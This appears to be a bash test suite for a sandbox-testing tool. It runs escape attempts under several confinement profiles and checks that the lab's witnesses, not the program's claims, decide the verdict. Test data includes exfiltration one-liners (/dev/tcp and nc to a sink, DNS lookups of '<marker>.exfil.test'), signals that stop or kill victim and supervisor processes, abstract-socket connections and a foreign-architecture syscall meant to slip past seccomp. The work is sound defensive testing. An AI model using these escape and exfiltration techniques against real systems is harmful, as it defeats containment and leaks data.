#!/usr/bin/env bash
# `parity attack exec` (issue 4): programs built from real tools are judged by
# the lab's witnesses, never by what they say.
set -uo pipefail
: "${PARITY_BIN:?}" "${NETPROBE_BIN:?}"
PY=/usr/bin/python3
fail=0 tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT

# verdict PROFILE DESCRIPTION -- CMD...: prints the verdict, keeps the JSON
# in $LAST (judge runs in a command substitution: a variable set there
# would not reach the caller, the file does)
LAST=$tmp/last.json
judge() {
	local profile=$1 out=$LAST
	shift
	"$PARITY_BIN" attack exec --profile "$profile" --json "$@" >"$out" 2>"$out.err"
	local rc=$?
	# 3 with a verdict: a lab or witness failure, judged INCONCLUSIVE
	if [ $rc -ne 0 ] && ! { [ $rc = 3 ] && $PY -c 'import json,sys; json.load(open(sys.argv[1]))["verdict"]' "$out" 2>/dev/null; }; then
		echo "EXIT$rc"
		cat "$out.err" >&2
		return
	fi
	$PY -c 'import json,sys; r=json.load(open(sys.argv[1])); print(r["verdict"], r.get("signal",""))' "$out"
}
expect() { # expect WANT PROFILE DESC -- CMD...
	local want=$1 profile=$2 desc=$3
	shift 3
	[ "$1" = -- ] && shift
	local got
	got=$(judge "$profile" -- "$@")
	if [[ "$got" == $want* ]]; then
		echo "ok   $profile: $desc: $got"
	else
		echo "FAIL $profile: $desc: want $want, got $got"
		[ -s "$LAST" ] && $PY -c 'import json,sys; r=json.load(open(sys.argv[1])); print("     reason:", r["reason"]); print("     out:", r["program"]["stdout"][:300])' "$LAST"
		fail=$((fail + 1))
	fi
}

tcp_sink='echo "$PARITY_MARKER" > /dev/tcp/$PARITY_SINK_V4/80'
tcp_3128='echo "$PARITY_MARKER" > /dev/tcp/$PARITY_SINK_V4/3128'
udp='echo "$PARITY_MARKER" | nc -u -w1 "$PARITY_SINK_V4" 9999'
dns='dig @"$PARITY_DNS_V4" "$PARITY_MARKER.exfil.test" +tries=1 +time=1'
getent='getent hosts "$PARITY_MARKER.exfil.test"'
sig='kill -USR1 "$PARITY_VICTIM_PID"'
abs='echo "$PARITY_MARKER" | socat - ABSTRACT-CONNECT:"$PARITY_VICTIM_ABSTRACT"'

# Under none, every program escapes through its own witness.
expect ESCAPED none "bash /dev/tcp to the sink" -- bash -c "$tcp_sink"
expect ESCAPED none "nc -u to the sink" -- bash -c "$udp"
expect ESCAPED none "dig for <marker>.exfil.test at the DNS sink" -- bash -c "$dns"
expect ESCAPED none "getent through the pod's resolv.conf" -- bash -c "$getent"
expect ESCAPED none "kill -USR1 the victim" -- bash -c "$sig"
# SIGSTOP and SIGKILL cannot be caught: the victim's state is the witness.
expect ESCAPED none "kill -STOP the victim (seen by its state)" -- bash -c 'kill -STOP "$PARITY_VICTIM_PID"'
expect ESCAPED none "kill -KILL the victim (seen by its state)" -- bash -c 'kill -KILL "$PARITY_VICTIM_PID"'
expect ESCAPED none "socat to the abstract victim" -- bash -c "$abs"
# A stopped supervisor is seen by its state, at once: the pod hung until the
# lab's bound (15 s) and the cell was INCONCLUSIVE.
t0=$(date +%s%N)
expect ESCAPED none "kill -STOP the supervisor (seen by its state)" -- bash -c 'kill -STOP "$PARITY_SUPERVISOR_PID"'
ms=$((($(date +%s%N) - t0) / 1000000))
if [ "$ms" -lt 8000 ]; then echo "ok   ... judged in $ms ms"; else echo "FAIL ... judged in $ms ms (the lab's bound?)"; fail=$((fail + 1)); fi
expect BLOCKED namespace "kill -STOP the supervisor (another uid)" -- bash -c 'kill -STOP "$PARITY_SUPERVISOR_PID"'
# A stop of 5 ms falls between the harness's looks (every 50 ms): the pod's
# init, the supervisor's parent, sees it through wait(WUNTRACED|WCONTINUED).
expect ESCAPED none "kill -STOP, 5 ms, kill -CONT the supervisor (seen by its parent)" -- \
	bash -c 'kill -STOP "$PARITY_SUPERVISOR_PID" && sleep 0.005 && kill -CONT "$PARITY_SUPERVISOR_PID"'
# (A SIGCONT while the stop is still under way is reported as a continue
# alone: either count will do, the harness's looks give neither.)
if $PY -c 'import json,sys; s=json.load(open(sys.argv[1]))["evidence"]["supervisor"]; sys.exit(not (s["group_stops"] + s["continues"] >= 1))' "$LAST"; then
	echo "ok   ... evidence.supervisor: group_stops + continues >= 1"
else
	echo "FAIL ... evidence.supervisor: $($PY -c 'import json,sys; print(json.load(open(sys.argv[1]))["evidence"]["supervisor"])' "$LAST")"
	fail=$((fail + 1))
fi
# The abstract accomplice reads on until the marker: here it comes after
# 100000 other bytes, 0.3 s later and in two pieces (one read of 4 KiB
# missed it, and the cell was INCONCLUSIVE; so did a cap of 64 KiB).
abs_late='import os, socket, time
s = socket.socket(socket.AF_UNIX)
n = "parity-late-%d" % os.getpid()
s.bind("\0" + n)
s.listen(1)
print("@parity accomplice abstract " + n, flush=True)
c, _ = s.accept()
c.sendall(b"x" * 100000)
time.sleep(0.3)
m = os.environ["PARITY_MARKER"].encode()
c.sendall(m[:5])
time.sleep(0.05)
c.sendall(m[5:] + b"\n")
time.sleep(0.2)'
expect ESCAPED none "accomplice: the marker after 100000 bytes, late, in pieces" -- $PY -c "$abs_late"
# Any byte read is an escape now (the marker reversed was BLOCKED), so the
# verdict alone no longer shows the marker was found: the evidence does.
if $PY -c 'import json,sys; sys.exit(not json.load(open(sys.argv[1]))["evidence"]["accomplice_abstract"]["marker"])' "$LAST"; then
	echo "ok   ... and the accomplice found the marker itself"
else
	echo "FAIL ... the accomplice did not find the marker: $($PY -c 'import json,sys; print(json.load(open(sys.argv[1]))["escapes"])' "$LAST")"
	fail=$((fail + 1))
fi

# An accomplice sent to one of the lab's own witnesses (the pod's TCP 22)
# is refused: the harness's connection was read as the program's, ESCAPED.
expect INCONCLUSIVE none "accomplice to a witness (pod tcp 22): refused, no escape" -- \
	sh -c 'echo "@parity accomplice tcp 22"; sleep 1'
expect INCONCLUSIVE none "accomplice to a witness (the abstract victim): refused" -- \
	sh -c 'echo "@parity accomplice abstract $PARITY_VICTIM_ABSTRACT"; sleep 1'
if $PY -c 'import json,sys; r=json.load(open(sys.argv[1])); q=r["evidence"]["accomplice_requests"]; sys.exit(not (q and "refused" in q[0]))' "$LAST"; then
	echo "ok   ... the request is recorded as refused"
else
	echo "FAIL ... the request is not recorded as refused"
	fail=$((fail + 1))
fi
# An inspect the harness cannot carry out (pid 1 is not the agent's) is a
# witness that failed: INCONCLUSIVE. It was BLOCKED when the control
# escaped through the sink and the profile stopped that.
insp='import os, socket, time
try:
    socket.create_connection((os.environ["PARITY_SINK_V4"], 443), timeout=1).sendall(os.environ["PARITY_MARKER"].encode())
except OSError:
    pass
print("@parity inspect 1", flush=True)
time.sleep(0.5)'
expect INCONCLUSIVE platform "@parity inspect of pid 1 (not the agent's): the witness failed" -- \
	$PY -c "$insp"

# N/A is for a missing kernel feature only (--compat hard): a sandbox that
# could not be set up for any other reason (here, a program it cannot exec)
# is the lab's failure, INCONCLUSIVE. It was N/A, left out of expectations.
for c in "INCONCLUSIVE|a program the sandbox cannot exec|--no-control -- /nonexistent/prog" \
	"N/A|--compat hard at ABI 3 (connect_tcp needs 4)|--landlock-abi 3 --compat hard --no-control -- true"; do
	IFS='|' read -r want desc args <<<"$c"
	# shellcheck disable=SC2086
	got=$(judge platform $args)
	if [[ "$got" == $want* ]]; then echo "ok   platform: $desc: $got"; else
		echo "FAIL platform: $desc: want $want, got $got"
		fail=$((fail + 1))
	fi
done

# Under platform on this kernel: UDP, DNS over UDP, signals and abstract
# sockets are blocked; TCP to any host on the proxy's port is the PR's gap.
abi=$("$PARITY_BIN" probe --json | $PY -c 'import json,sys; print(json.load(sys.stdin)["landlock"]["abi"])')
expect BLOCKED platform "nc -u to the sink" -- bash -c "$udp"
expect BLOCKED platform "dig at the DNS sink over UDP" -- bash -c "$dns"
if [ "$abi" -ge 6 ]; then
	expect BLOCKED platform "kill -USR1 the victim (Landlock signal scope)" -- bash -c "$sig"
	expect BLOCKED platform "socat to the abstract victim (Landlock scope)" -- bash -c "$abs"
else
	echo "skip platform scope checks: Landlock ABI $abi < 6"
fi
expect ESCAPED platform "bash /dev/tcp to \$PARITY_SINK_V4:3128 (port-only rule)" -- bash -c "$tcp_3128"

# A program's claim is never the verdict.
expect ESCAPED platform "prints 'blocked' but sends the marker" -- \
	bash -c "$tcp_3128; echo blocked"
# A program killed by seccomp is KILLED (named), never BLOCKED; like
# BLOCKED, only against a control that escaped: unkilled, it connects.
expect "KILLED SYS" platform "int \$0x80 under a kill-on-foreign-arch filter" -- \
	bash -c 'exec "$0" int80 "$PARITY_SINK_V4" 80' "$NETPROBE_BIN"
# Without a control that escapes, a kill proves nothing: INCONCLUSIVE (it
# was KILLED, as was a program that crashed on its own).
expect INCONCLUSIVE platform "int \$0x80, no escape under none either" -- "$NETPROBE_BIN" int80

# The capture is kept and opens with tcpdump -r.
pcap=$tmp/cell.pcapng
if "$PARITY_BIN" attack exec --profile platform --pcap "$pcap" -- bash -c "$tcp_3128" >/dev/null &&
	tcpdump -nr "$pcap" 2>/dev/null | grep -q '198.51.100.10.3128'; then
	echo "ok   the saved capture opens with tcpdump -r and shows the flow"
else
	echo "FAIL the saved capture does not open with tcpdump -r"
	fail=$((fail + 1))
fi

# A witness that fails makes the cell INCONCLUSIVE (exit 3), never a verdict:
# a capture given 4 KiB for 200 KB of traffic overflows, although the sink
# saw the marker.
out=$tmp/overflow.json
"$PARITY_BIN" attack exec --profile none --no-control --json --capture-max-bytes 4096 -- \
	bash -c 'head -c 200000 /dev/zero > /dev/tcp/$PARITY_SINK_V4/80; echo "$PARITY_MARKER" > /dev/tcp/$PARITY_SINK_V4/80' \
	>"$out" 2>/dev/null
rc=$?
got=$($PY -c 'import json,sys; r=json.load(open(sys.argv[1])); print(r["verdict"], "limit" if "capture memory limit" in r["reason"] else r["reason"])' "$out" 2>/dev/null)
if [ $rc -eq 3 ] && [ "$got" = "INCONCLUSIVE limit" ]; then
	echo "ok   a capture over its memory limit: INCONCLUSIVE, exit 3"
else
	echo "FAIL a capture over its memory limit: exit $rc, $got"
	fail=$((fail + 1))
fi

# A program that prints 200 accomplice requests and exits at once: they
# are bounded (LAB_REQUESTS_MAX, LAB_REQUESTS_BUDGET_MS), not served one
# by one for minutes against a pod already gone (a review: 100 took 47 s).
t0=$(date +%s)
"$PARITY_BIN" attack exec --profile platform --no-control --json -- sh -c \
	'i=0; while [ $i -lt 200 ]; do echo "@parity accomplice udp 9"; i=$((i + 1)); done' \
	>"$LAST" 2>/dev/null
secs=$(($(date +%s) - t0))
if [ "$secs" -le 25 ] && $PY -c 'import json,sys; r=json.load(open(sys.argv[1]))["evidence"]["accomplice_requests"]; sys.exit(not (len(r) <= 33 and "refused" in r[-1]))' "$LAST"; then
	echo "ok   200 accomplice requests: bounded ($secs s, the rest refused and recorded)"
else
	echo "FAIL 200 accomplice requests took $secs s or were not refused"
	fail=$((fail + 1))
fi

# A leftover whose leader called exit() while a thread runs on reads as a
# zombie in /proc: it must still be killed before the teardown.
"$PARITY_BIN" attack exec --profile platform --no-control --json -- python3 -c '
import ctypes, os, threading, time
if os.fork() == 0:
    os.setsid()
    threading.Thread(target=lambda: time.sleep(30)).start()
    time.sleep(0.05)
    ctypes.CDLL(None).syscall(60, 0)  # SYS_exit: the leader only
time.sleep(0.3)' >"$LAST" 2>/dev/null
if $PY -c 'import json,sys; s=json.load(open(sys.argv[1]))["evidence"]["supervisor"]; print("    ", s["leftovers_killed"]); sys.exit(s["leftovers_killed"] < 1)' "$LAST"; then
	echo "ok   a leftover with an exited leader and a live thread is killed"
else
	echo "FAIL a leftover with an exited leader and a live thread was not killed"
	fail=$((fail + 1))
fi

# The text transcript shows the program's terminal controls escaped: a \r
# and an erase-line sequence could otherwise overwrite lines of it.
out=$("$PARITY_BIN" attack exec --profile platform --no-control -- sh -c 'printf "a\r\033[2Kb\n"' 2>&1)
if grep -qF '  | a\x0d\x1b[2Kb' <<<"$out"; then
	echo "ok   the transcript escapes the program's control characters"
else
	echo "FAIL the transcript printed the program's control characters raw"
	fail=$((fail + 1))
fi

# A NUL byte in the program's output no longer ends what is kept of it:
# the JSON has what follows it (as \u0000), and so does the transcript.
"$PARITY_BIN" attack exec --profile platform --no-control --json -- \
	sh -c 'printf "before\000after\n"' >"$tmp/nul.json" 2>/dev/null
out=$("$PARITY_BIN" attack exec --profile platform --no-control -- sh -c 'printf "before\000after\n"' 2>&1)
if $PY -c 'import json,sys; sys.exit(json.load(open(sys.argv[1]))["program"]["stdout"] != "before\0after\n")' \
	"$tmp/nul.json" && grep -qF '  | before\x00after' <<<"$out"; then
	echo "ok   a NUL byte in the output keeps what follows it (JSON and transcript)"
else
	echo "FAIL a NUL byte in the output cut it short"
	fail=$((fail + 1))
fi

# Usage errors exit 2; a judgement exits 0.
"$PARITY_BIN" attack exec --profile none --capture-max-bytes 12 -- true >/dev/null 2>&1
[ $? -eq 2 ] && echo "ok   --capture-max-bytes 12: exit 2" || { echo "FAIL --capture-max-bytes 12: not exit 2"; fail=$((fail + 1)); }
"$PARITY_BIN" attack exec --profile platform >/dev/null 2>&1
[ $? -eq 2 ] && echo "ok   no command: exit 2" || { echo "FAIL no command: not exit 2"; fail=$((fail + 1)); }
"$PARITY_BIN" attack exec --profile nope -- true >/dev/null 2>&1
[ $? -eq 2 ] && echo "ok   bad profile: exit 2" || { echo "FAIL bad profile: not exit 2"; fail=$((fail + 1)); }

echo "$fail failure(s)"
exit $((fail > 0))
